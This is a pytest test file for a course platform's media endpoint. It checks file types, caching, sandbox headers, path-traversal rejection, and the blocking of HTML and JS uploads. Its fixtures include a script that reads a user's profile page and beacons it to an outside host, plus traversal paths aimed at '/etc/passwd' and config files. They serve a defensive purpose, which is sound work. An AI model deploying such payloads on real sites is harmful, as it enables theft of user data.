"""Media of a published version: only what that version published, typed, cached, sandboxed;
images show inline, everything else is a download, and web pages or scripts are never published."""

from __future__ import annotations

import hashlib
import struct
import zlib
from pathlib import Path

import pytest

from app.courses.models import Course, CourseMedia, MediaBlob
from app.extensions import db
from tests import factories
from tests.courses.course_folders import publish, write_course
from tests.factories import CONTENT
from tests.helpers import build_app, dispose, in_test_transaction, redirects_to_login, signed_in_client

SVG = "media/lives-steps.svg"
TEXT = "media/referral-checklist.txt"
SANDBOX = "sandbox; default-src 'none'"
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
_IHDR = b"IHDR" + struct.pack(">IIBBBBB", 40, 20, 8, 2, 0, 0, 0)
PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + _IHDR + struct.pack(">I", zlib.crc32(_IHDR))
PAGE = b'<!doctype html><p>Hello</p><script src="evil.js"></script>\n'
SCRIPT = b'fetch("/account/profile").then(r => r.text()).then(t => navigator.sendBeacon("https://example.com/", t));\n'


@pytest.fixture
def version():
    return factories.published_course("example-course")


def url(version, path: str, prefix: str | None = None) -> str:
    return f"/courses/example-course/v/{prefix or version.content_hash[:16]}/{path}"


def test_a_media_file_is_served_with_its_type_and_long_caching(version, learner_client):
    response = learner_client.get(url(version, TEXT))

    data = (CONTENT / "example-course" / TEXT).read_bytes()
    assert response.status_code == 200
    assert response.data == data
    assert response.headers["Content-Type"].startswith("text/plain")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["ETag"] == f'"{hashlib.sha256(data).hexdigest()}"'
    cache = response.headers["Cache-Control"]
    assert "immutable" in cache and "max-age=31536000" in cache and "private" in cache
    assert response.headers["Content-Disposition"].startswith('attachment; filename="referral-checklist.txt"')


def test_an_svg_is_sandboxed(version, learner_client):
    response = learner_client.get(url(version, SVG))
    assert response.headers["Content-Type"] == "image/svg+xml"
    policy = response.headers["Content-Security-Policy"]
    assert "sandbox" in policy and "default-src 'none'" in policy
    assert "Content-Disposition" not in response.headers  # shown in the lesson


def test_a_known_etag_gets_304_without_the_bytes(version, learner_client):
    etag = learner_client.get(url(version, SVG)).headers["ETag"]
    response = learner_client.get(url(version, SVG), headers={"If-None-Match": etag})
    assert response.status_code == 304 and response.data == b""
    assert response.headers["ETag"] == etag
    assert learner_client.get(url(version, SVG), headers={"If-None-Match": '"other"'}).status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "media/missing.png",
        "media/../course.md",
        "course.md",
        "01-welcome.md",
        "../../../../etc/passwd",
        "media/LIVES-STEPS.svg",
        "media/lives-steps.svg/",
        "%2e%2e/%2e%2e/config.py",
    ],
)
def test_only_published_media_paths_exist(version, learner_client, path):
    assert learner_client.get(url(version, path)).status_code == 404


@pytest.mark.parametrize("prefix", ["0000000000000000", "zzzzzzzzzzzzzzzz", "abc", "%", "_" * 16])
def test_an_unknown_version_is_not_found(version, learner_client, prefix):
    assert learner_client.get(url(version, SVG, prefix)).status_code == 404


def test_media_belong_to_their_course(version, learner_client):
    factories.published_course("looking-after-yourself")
    assert learner_client.get(f"/courses/looking-after-yourself/v/{version.content_hash[:16]}/{SVG}").status_code == 404


def test_media_need_a_signed_in_learner(version, client):
    assert redirects_to_login(client.get(url(version, SVG)))


# --- which files are published, and how each kind is sent -------------------------------------


@pytest.fixture
def handouts(tmp_path):
    """A published course whose media/ holds an image and two handouts."""
    root = write_course(tmp_path / "content", "handouts", lessons=1)
    media = root / "courses" / "handouts" / "media"
    media.mkdir()
    (media / "lives-steps.png").write_bytes(PNG)
    (media / "checklist.pdf").write_bytes(PDF)
    (media / 'Fiche "réfugiés".pdf').write_bytes(PDF)
    return publish(root, "handouts")


def handout_url(version, path: str) -> str:
    return f"/courses/handouts/v/{version.content_hash[:16]}/{path}"


def test_a_pdf_is_a_sandboxed_download(handouts, learner_client):
    response = learner_client.get(handout_url(handouts, "media/checklist.pdf"))
    assert response.status_code == 200 and response.data == PDF
    assert response.headers["Content-Type"] == "application/pdf"
    assert (
        response.headers["Content-Disposition"]
        == "attachment; filename=\"checklist.pdf\"; filename*=UTF-8''checklist.pdf"
    )
    assert response.headers["Content-Security-Policy"] == SANDBOX
    assert response.headers["X-Content-Type-Options"] == "nosniff"


def test_a_download_keeps_its_name_without_breaking_the_header(handouts, learner_client):
    response = learner_client.get(handout_url(handouts, "media/Fiche%20%22r%C3%A9fugi%C3%A9s%22.pdf"))
    assert response.status_code == 200
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=\"Fiche_refugies.pdf\"; filename*=UTF-8''Fiche%20%22r%C3%A9fugi%C3%A9s%22.pdf"
    )


def test_an_image_shows_inline(handouts, learner_client):
    response = learner_client.get(handout_url(handouts, "media/lives-steps.png"))
    assert response.status_code == 200 and response.data == PNG
    assert response.headers["Content-Type"] == "image/png"
    assert "Content-Disposition" not in response.headers
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    ("path", "data", "stored_type"),
    [
        ("media/page.html", PAGE, "text/html; charset=utf-8"),
        ("media/evil.js", SCRIPT, "text/javascript"),
        ("media/page.xhtml", PAGE, "application/xhtml+xml"),
    ],
)
def test_a_page_or_script_published_before_types_were_checked_is_only_a_download(
    version, learner_client, path, data, stored_type
):
    # Stored as the publisher stored every media file before this check existed.
    sha256 = hashlib.sha256(data).hexdigest()
    db.session.add(MediaBlob(sha256=sha256, content_type=stored_type, data=data))
    db.session.flush()
    db.session.add(CourseMedia(version_id=version.id, path=path, sha256=sha256))
    db.session.commit()

    response = learner_client.get(url(version, path))

    assert response.status_code == 200 and response.data == data
    assert response.headers["Content-Type"] == "application/octet-stream"
    name = path.rsplit("/", 1)[1]
    assert response.headers["Content-Disposition"] == f"attachment; filename=\"{name}\"; filename*=UTF-8''{name}"
    assert response.headers["Content-Security-Policy"] == SANDBOX
    assert response.headers["X-Content-Type-Options"] == "nosniff"


@pytest.fixture(scope="module")
def content_app(database_url, tmp_path_factory):
    """An app whose CONTENT_DIR is a temporary content folder; the shared app's config stays as it is."""
    other = build_app(database_url, CONTENT_DIR=str(tmp_path_factory.mktemp("content")))
    yield other
    dispose(other)


def flask_content(app, *args: str):
    with app.app_context():
        return app.test_cli_runner().invoke(args=["content", *args])


def test_a_web_page_in_media_stops_publishing_and_the_last_version_stays(app, content_app, learner):
    root = Path(content_app.config["CONTENT_DIR"])
    media = write_course(root, "handouts", lessons=1) / "courses" / "handouts" / "media"
    media.mkdir()
    (media / "checklist.pdf").write_bytes(PDF)
    with in_test_transaction(content_app, app):
        first = flask_content(content_app, "publish")
        assert first.exit_code == 0, first.output
        served = db.session.get(Course, "handouts").current_hash

        (media / "page.html").write_bytes(PAGE)
        (media / "evil.js").write_bytes(SCRIPT)
        second = flask_content(content_app, "publish")

        assert second.exit_code == 1
        assert "handouts: failed, 2 error(s); the last good version stays online" in second.output
        assert "media/page.html:1: error: `.html` files cannot be published" in second.output
        assert "media/evil.js:1: error: `.js` files cannot be published" in second.output
        db.session.expire_all()
        assert db.session.get(Course, "handouts").current_hash == served
        client = signed_in_client(content_app, learner.email)
        base = f"/courses/handouts/v/{served[:16]}/media"
        assert client.get(f"{base}/checklist.pdf").status_code == 200
        assert client.get(f"{base}/page.html").status_code == 404
        assert client.get(f"{base}/evil.js").status_code == 404
